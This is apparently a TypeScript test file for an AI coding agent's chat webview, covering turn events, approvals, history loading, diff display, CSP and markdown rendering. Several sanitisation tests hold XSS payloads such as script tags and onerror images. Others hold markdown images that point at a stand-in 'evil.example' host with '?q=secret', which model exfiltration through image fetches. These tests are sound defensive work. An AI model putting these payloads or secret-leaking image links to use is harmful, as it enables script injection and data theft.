import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';

import { Chat } from '../src/chatModel';
import { announcement, csp, escapeHtml, highlight, markdown, page, renderItems, renderUpdate } from '../src/chatHtml';
import { threadName } from '../src/format';
import type { ThreadHistory, TurnEventParams } from '../src/protocol';

function ev(kind: string, fields: Record<string, unknown> = {}): TurnEventParams {
	return { folder: '/w', threadId: 'th1', turnId: 't1', event: { kind, time: '', ...fields } } as unknown as TurnEventParams;
}

test('the conversation follows the turn events: prompt, streamed answer, tools, approvals, end', () => {
	const c = new Chat();
	c.apply(ev('turnStarted', { text: 'add a test' }));
	c.apply(ev('toolStarted', { tool: { itemId: 'i1', name: 'exec_command', preview: 'go test ./...', callId: 'c' } }));
	c.apply(ev('approvalWaiting', { approval: { approvalId: 'a1', summary: 'go test ./...', warning: 'calc.go has unsaved changes' } }));
	c.apply(ev('approvalResolved', { approval: { approvalId: 'a1', decision: 'once', decidedBy: 'user' } }));
	c.apply(
		ev('toolCompleted', {
			tool: { itemId: 'i1', name: 'exec_command', preview: 'go test ./...', exitCode: 1, durationMs: 1200, isError: true, result: 'FAIL' },
		}),
	);
	c.apply(ev('answerDelta', { text: 'It ' }));
	c.apply(ev('answerDelta', { text: 'fails.' }));
	c.apply(ev('turnCompleted', { result: { status: 'completed', toolIterations: 1, usage: { totalTokens: 42 }, finalText: 'It fails.' } }));
	assert.deepEqual(
		c.items.map((i) => i.kind),
		['you', 'tool', 'approval', 'answer', 'end'],
	);
	assert.equal(c.threadId, 'th1');
	assert.equal(c.running, false);
	const html = renderItems(c.items);
	assert.match(html, /exec_command go test \.\/\.\.\. · exit 1 · 1\.2 s/);
	assert.match(html, /once \(user\)/);
	assert.match(html, /<p>It fails\.<\/p>/);
	assert.match(html, /completed · 1 tool call\(s\) · 42 tokens/);
});

test('markdown is rendered but HTML in it is not', () => {
	const c = new Chat();
	c.apply(ev('turnStarted', { text: 'x' }));
	c.apply(ev('answerDelta', { text: '**bold** <script>alert(1)</script> <img src=x onerror=alert(1)>' }));
	const html = renderItems(c.items);
	assert.match(html, /<strong>bold<\/strong>/);
	assert.doesNotMatch(html, /<script>|<img/);
	assert.equal(escapeHtml('<a href="x">'), '&lt;a href=&quot;x&quot;&gt;');
});

test('the page loads nothing remote: its CSP allows images only from the webview and data:', () => {
	const source = 'https://file+.vscode-resource.vscode-cdn.net';
	assert.equal(csp('N0NCE', source), `default-src 'none'; img-src ${source} data:; style-src ${source}; script-src 'nonce-N0NCE';`);
	const html = page('N0NCE', source, 'vscode-webview://x/chat.js', 'vscode-webview://x/chat.css');
	const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
	assert.equal(meta?.[1], csp('N0NCE', source));
	assert.doesNotMatch(meta[1], /https:(?!\/\/file\+)|http:|\*/);
});

test("the model's images are links to click, never fetched", () => {
	const answer = [
		'Here: ![the secret](https://evil.example/?q=secret) and ![](http://evil.example/plain)',
		'',
		'Reference: ![ref img][r] and [![badge](https://evil.example/badge.svg)](https://example.com/site)',
		'',
		'Inline <img src="https://evil.example/raw.png"> and a data one ![d](data:image/png;base64,AAAA)',
		'',
		'<img src="https://evil.example/block.png">',
		'',
		'[r]: https://evil.example/ref?q=secret "t"',
	].join('\n');
	const c = new Chat();
	c.apply(ev('turnStarted', { text: '![you](https://evil.example/you.png)' }));
	c.apply(ev('answerDelta', { text: answer }));
	const html = renderItems(c.items);
	assert.doesNotMatch(html, /<img/i, html);
	assert.match(html, /<a class="image-link" href="https:\/\/evil\.example\/\?q=secret" title="https:\/\/evil\.example\/\?q=secret">🖼 the secret<\/a>/);
	assert.match(html, /<a class="image-link" href="http:\/\/evil\.example\/plain"[^>]*>🖼 http:\/\/evil\.example\/plain<\/a>/);
	assert.match(html, /<a class="image-link" href="https:\/\/evil\.example\/ref\?q=secret"[^>]*>🖼 ref img<\/a>/);
	assert.match(html, /<a class="image-link" href="https:\/\/evil\.example\/you\.png"[^>]*>🖼 you<\/a>/);
	// A badge inside a link is the link's words: links do not nest.
	assert.match(html, /<a href="https:\/\/example\.com\/site">🖼 badge<\/a>/);
	// A data: image is words only.
	assert.match(html, /and a data one 🖼 d<\/p>/);
	assert.match(html, /Inline &lt;img src=&quot;/);
	// Were html turned on, raw HTML would still be text.
	const on = markdown(true).render('a <img src="https://evil.example/i.png"> b\n\n<img src="https://evil.example/b.png">\n');
	assert.doesNotMatch(on, /<img/i, on);
	assert.match(on, /&lt;img src=&quot;https:\/\/evil\.example\/b\.png&quot;&gt;/);
});

test('an approval waiting shows its buttons, Deny first', () => {
	const c = new Chat();
	c.apply(ev('approvalWaiting', { approval: { approvalId: 'a7', summary: 'rm -rf build' } }));
	const html = renderItems(c.items);
	const deny = html.indexOf('data-decision="deny"'),
		once = html.indexOf('data-decision="once"');
	assert.ok(deny > 0 && once > deny, html);
});

/** history is a thread's history as hermes.threadHistory answers it (hermesproto/testdata/thread_history.json's shape). */
function history(fields: Partial<ThreadHistory> = {}): ThreadHistory {
	return {
		folder: '/w',
		threadId: 'th9',
		transcriptPath: '/s/th9.md',
		turns: [
			{
				turnId: 't1',
				status: 'completed',
				durationMs: 1534,
				items: [
					{ kind: 'user', itemId: 'u1', text: 'add a test\nfor Sum' },
					{
						kind: 'tool',
						itemId: 'c1',
						name: 'exec_command',
						preview: 'go test ./...',
						status: 'failed',
						isError: true,
						exitCode: 1,
						durationMs: 400,
						output: 'FAIL\n',
					},
					{
						kind: 'tool',
						itemId: 'c2',
						name: 'apply_patch',
						preview: '/w/a.go',
						status: 'completed',
						output: 'ok',
						diff: '--- /w/a.go\n+++ /w/a.go (update)\n@@ -1 +1 @@\n-a\n+b\n',
					},
					{
						kind: 'tool',
						itemId: 'c3',
						name: 'apply_patch',
						preview: '/w/b.go',
						status: 'completed',
						output: 'ok',
						diff: '--- /w/b.go\n+++ /w/b.go (add)\n+c\n',
					},
					{ kind: 'answer', itemId: 'm1', text: 'It **fails**.\n\n> quoted\n✅ done' },
				],
			},
			{ turnId: 't2', status: 'completed', items: [{ kind: 'compaction', itemId: 'k1' }] },
			{
				turnId: 't3',
				status: 'failed',
				error: 'usageLimitExceeded: quota exceeded',
				items: [{ kind: 'user', itemId: 'u2', text: 'and now?\n⛔ not an approval' }],
			},
		],
		...fields,
	};
}

test("the thread's history from the server becomes the conversation again", () => {
	const c = new Chat();
	c.apply(ev('turnStarted', { text: 'an older conversation' }));
	c.loadHistory(history());
	assert.deepEqual(
		c.items.map((i) => i.kind),
		['you', 'tool', 'tool', 'diff', 'tool', 'answer', 'end', 'end', 'you', 'error', 'end'],
	);
	assert.equal(c.threadId, 'th9');
	assert.equal(c.running, false);
	const [you, exec, patch, diff, , answer, end1, end2, you2, err, end3] = c.items;
	assert.ok(you.kind === 'you' && you.text === 'add a test\nfor Sum');
	assert.ok(
		exec.kind === 'tool' && exec.line === 'exec_command go test ./... · exit 1 · 0.4 s' && !exec.ok && exec.done && exec.output === 'FAIL\n',
		JSON.stringify(exec),
	);
	assert.ok(patch.kind === 'tool' && patch.ok && patch.line === 'apply_patch /w/a.go');
	// The turn's patches are one diff entry, where the first showed (as the live turn's diff).
	assert.ok(diff.kind === 'diff' && diff.text.includes('+b\n') && diff.text.includes('+++ /w/b.go (add)\n+c\n'), JSON.stringify(diff));
	assert.ok(answer.kind === 'answer' && answer.text === 'It **fails**.\n\n> quoted\n✅ done');
	assert.ok(end1.kind === 'end' && end1.line === 'completed · 3 tool call(s) · 1.5 s' && end1.turnId === 't1' && end1.transcript === '/s/th9.md');
	assert.ok(end2.kind === 'end' && end2.line === 'completed · context compacted' && end2.turnId === 't2');
	assert.ok(you2.kind === 'you' && you2.text === 'and now?\n⛔ not an approval');
	assert.ok(err.kind === 'error' && err.text === 'usageLimitExceeded: quota exceeded' && err.retry === 'and now?\n⛔ not an approval');
	assert.ok(end3.kind === 'end' && end3.line === 'failed · 0 tool call(s)' && end3.turnId === 't3');
	// Undo marks a loaded turn's end; its transcript link is the thread's.
	assert.equal(c.markUndone('t1'), true);
	const html = renderItems(c.items);
	assert.match(html, /exec_command go test \.\/\.\.\. · exit 1 · 0\.4 s/);
	assert.match(html, new RegExp(`data-transcript="${end1.key}"`));
	assert.match(html, new RegExp(`<button data-retry="${err.key}">Retry</button>`));
});

test("a history's text is markdown rendered without HTML, and a running turn keeps the conversation running", () => {
	const c = new Chat();
	c.loadHistory(
		history({
			truncated: true,
			turns: [
				{
					turnId: 't9',
					status: 'inProgress',
					items: [
						{ kind: 'user', itemId: 'u', text: '<img src=x onerror=alert(1)> fix' },
						{ kind: 'tool', itemId: 'c', name: 'exec_command', preview: 'make', status: 'inProgress' },
						{ kind: 'answer', itemId: 'm', text: '<script>alert(1)</script> ![x](https://evil.example/i.png)' },
					],
				},
			],
		}),
	);
	assert.deepEqual(
		c.items.map((i) => i.kind),
		['end', 'you', 'tool', 'answer'],
	);
	const note = c.items[0];
	assert.ok(note.kind === 'end' && /older turns are not shown/.test(note.line) && note.transcript === '/s/th9.md');
	assert.ok(c.items[2].kind === 'tool' && !c.items[2].done);
	assert.equal(c.running, true);
	assert.equal(c.lastPrompt, '<img src=x onerror=alert(1)> fix');
	const html = renderItems(c.items);
	assert.doesNotMatch(html, /<script>|<img/i, html);
	// The live turn goes on from the history.
	c.apply(ev('answerDelta', { text: ' more' }));
	c.apply(ev('turnCompleted', { result: { status: 'completed', toolIterations: 1, usage: { totalTokens: 7 }, finalText: 'x', turnId: 't9' } }));
	assert.equal(c.running, false);
	assert.equal(c.items.at(-1)?.kind, 'end');
});

test("the server's own history (hermesproto's golden file) loads as the protocol says", () => {
	const golden = join(__dirname, '..', '..', '..', '..', 'hermesproto', 'testdata', 'thread_history.json');
	const c = new Chat();
	c.loadHistory(JSON.parse(readFileSync(golden, 'utf8')) as ThreadHistory);
	assert.deepEqual(
		c.items.map((i) => i.kind),
		['end', 'you', 'tool', 'tool', 'diff', 'answer', 'end', 'you', 'error', 'end', 'end'],
	);
	const tool = c.items[2];
	assert.ok(tool.kind === 'tool' && tool.line === 'exec_command make build · exit 2 · 0.2 s' && !tool.ok, JSON.stringify(tool));
});

test('an empty history (a folder with no thread yet) is an empty conversation', () => {
	const c = new Chat();
	c.apply(ev('turnStarted', { text: 'x' }));
	c.loadHistory({ folder: '/w', threadId: '', turns: [] });
	assert.equal(c.items.length, 0);
	assert.equal(c.threadId, '');
});

test('the page gets only the entries that changed: an open tool output is not redrawn when the answer grows', () => {
	const c = new Chat();
	const shown = new Map<number, string>();
	c.apply(ev('turnStarted', { text: 'run it' }));
	c.apply(ev('toolStarted', { tool: { itemId: 'i1', name: 'exec_command', preview: 'make', callId: 'c' } }));
	c.apply(ev('toolOutput', { tool: { itemId: 'i1' }, text: 'building\n' }));
	const first = renderUpdate(c.items, shown);
	assert.equal(first.changed.length, 2);
	assert.deepEqual(first.order, [c.items[0].key, c.items[1].key]);
	c.apply(ev('answerDelta', { text: 'Built.' }));
	const second = renderUpdate(c.items, shown);
	assert.deepEqual(
		second.changed.map(([k]) => k),
		[c.items[2].key],
		'only the new answer',
	);
	c.apply(ev('answerDelta', { text: ' All good.' }));
	const third = renderUpdate(c.items, shown);
	assert.deepEqual(
		third.changed.map(([k]) => k),
		[c.items[2].key],
		'only the growing answer, never the tool',
	);
	assert.match(third.changed[0][1], new RegExp(`^<div data-key="${c.items[2].key}" class="msg answer">`));
	assert.deepEqual(renderUpdate(c.items, shown).changed, [], 'nothing changed, nothing sent');
	// Keys are never reused: a new conversation's first key follows on.
	assert.ok(new Set(c.items.map((i) => i.key)).size === c.items.length);
});

test('code blocks are highlighted with highlight.js, escaped, with a copy button; unknown languages are escaped text', () => {
	const html = markdown(false).render('```go\nfunc main() { fmt.Println("<b>hi</b>") }\n```\n\n```nolang\n<script>x</script>\n```\n');
	assert.match(html, /<div class="code-block"><div class="code-bar"><span class="lang">go<\/span><button class="copy"/);
	assert.match(html, /<code class="language-go">(<span class="hljs-function">)?<span class="hljs-keyword">func<\/span>/);
	assert.match(html, /&lt;b&gt;hi&lt;\/b&gt;/);
	assert.doesNotMatch(html, /<b>hi|<script>/);
	assert.match(html, /&lt;script&gt;x&lt;\/script&gt;/);
	assert.equal(highlight('x := 1', 'unknown-language'), '');
	assert.match(highlight('const x = 1;', 'ts'), /hljs-keyword/);
});

test('task lists and tables are rendered', () => {
	const html = markdown(false).render('- [x] done\n- [ ] todo\n- plain\n\n| a | b |\n|---|---|\n| 1 | 2 |\n');
	assert.match(html, /<li class="task-list-item"><input class="task" type="checkbox" disabled checked> done<\/li>/);
	assert.match(html, /<li class="task-list-item"><input class="task" type="checkbox" disabled> todo<\/li>/);
	assert.match(html, /<li>plain<\/li>/);
	assert.match(html, /<table>[\s\S]*<th>a<\/th>[\s\S]*<td>2<\/td>/);
});

test('a failed turn is an error with Retry (its prompt) and Switch model; the end links the transcript; an undone turn is marked', () => {
	const c = new Chat();
	c.apply(ev('turnStarted', { text: 'try this' }));
	c.apply(
		ev('turnCompleted', {
			result: {
				status: 'failed',
				completed: false,
				error: 'model not found',
				toolIterations: 0,
				usage: { totalTokens: 0 },
				finalText: '',
				turnId: 't1',
				transcriptPath: '/s/th1.md',
			},
		}),
	);
	assert.deepEqual(
		c.items.map((i) => i.kind),
		['you', 'error', 'end'],
	);
	const err = c.items[1];
	assert.ok(err.kind === 'error' && err.retry === 'try this');
	const html = renderItems(c.items);
	assert.match(html, new RegExp(`<button data-retry="${err.key}">Retry</button><button data-switch-model>Switch model</button>`));
	assert.match(html, /class="error"><div class="who">Error<\/div><div class="error-text">model not found</);
	const end = c.items[2];
	assert.match(html, new RegExp(`data-transcript="${end.key}"`));
	assert.equal(c.markUndone('t1'), true);
	assert.equal(c.markUndone('t1'), false);
	assert.match(renderItems(c.items), /class="end undone">failed · 0 tool call\(s\)[^<]*<span class="undone-mark">· undone<\/span>/);
	assert.equal(announcement(err), 'Error: model not found');
});

test('the screen reader hears new content from its own live region; the conversation itself is not live', () => {
	const html = page('N', 'src', 's.js', 's.css');
	assert.match(html, /<div id="live" class="sr-only" aria-live="polite"><\/div>/);
	assert.doesNotMatch(html.match(/<div id="log"[^>]*>/)?.[0] ?? '', /aria-live/);
	assert.match(html, /<div id="empty">/);
	assert.match(html, /<button id="jump" hidden/);
	// Threads, Model and New are the view's title bar buttons now.
	assert.doesNotMatch(html, /id="threads"|id="model"|id="new"/);
});

test('threads are named by their title, never their id', () => {
	assert.equal(threadName('  Add a test\nfor the parser '), 'Add a test for the parser');
	assert.equal(threadName(''), 'untitled thread');
	assert.equal(threadName('x'.repeat(80)).length, 60);
});

test("a turn's diff is one entry, updated in place", () => {
	const c = new Chat();
	c.apply(ev('turnStarted', { text: 'patch' }));
	c.apply(ev('diff', { diff: 'one' }));
	c.apply(ev('answerDelta', { text: 'Done.' }));
	c.apply(ev('diff', { diff: 'two' }));
	assert.deepEqual(
		c.items.map((i) => (i.kind === 'diff' ? `diff:${i.text}` : i.kind)),
		['you', 'diff:two', 'answer'],
	);
});
